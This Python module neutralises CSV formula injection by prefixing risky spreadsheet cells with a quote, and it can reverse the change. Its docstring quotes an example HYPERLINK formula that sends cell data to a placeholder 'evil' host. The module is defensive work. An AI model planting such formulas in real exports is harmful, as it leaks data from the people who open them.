"""CSV cells a spreadsheet would evaluate, neutralised (CSV/formula injection, OWASP).

An exec filename of `=HYPERLINK("http://evil/?"&A1,"report")` or a comm starting with `@` or `+`
becomes a formula when an operator opens the export in a spreadsheet; quoting does not stop it.
Every string cell that starts with one of = + - @ TAB CR (or with the escape itself, so that the
change can be undone exactly) gets a leading `'`, which spreadsheets show as text. restore() undoes
it: `sigtrace analyze` reads an export back to the very values recorded. `export --raw` skips it
(the sidecar says which form a file has).
"""
from __future__ import annotations

import pandas as pd

ESCAPE = "'"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", ESCAPE)
NEUTRALISED, RAW = "neutralised", "raw"


def _neutralise_value(v: str) -> str:
    return ESCAPE + v if v.startswith(TRIGGERS) else v


def _restore_value(v: str) -> str:
    return v[1:] if v.startswith(ESCAPE) and v[1:2] and v[1] in TRIGGERS else v


def _map_strings(df: pd.DataFrame, fn) -> pd.DataFrame:
    out = df.copy(deep=False)
    for col in out.columns:
        s = out[col]
        if isinstance(s.dtype, pd.CategoricalDtype):
            cats = s.cat.categories
            if len(cats) and (cats.dtype == object or isinstance(cats.dtype, pd.StringDtype)):
                out[col] = s.cat.rename_categories([fn(c) if isinstance(c, str) else c for c in cats])
        elif s.dtype == object or isinstance(s.dtype, pd.StringDtype):
            out[col] = s.map(lambda v: fn(v) if isinstance(v, str) else v, na_action="ignore").astype(s.dtype)
    return out


def neutralise(df: pd.DataFrame) -> pd.DataFrame:
    """A copy whose string cells a spreadsheet shows as text."""
    return _map_strings(df, _neutralise_value)


def restore(df: pd.DataFrame) -> pd.DataFrame:
    """The values neutralise() was given."""
    return _map_strings(df, _restore_value)
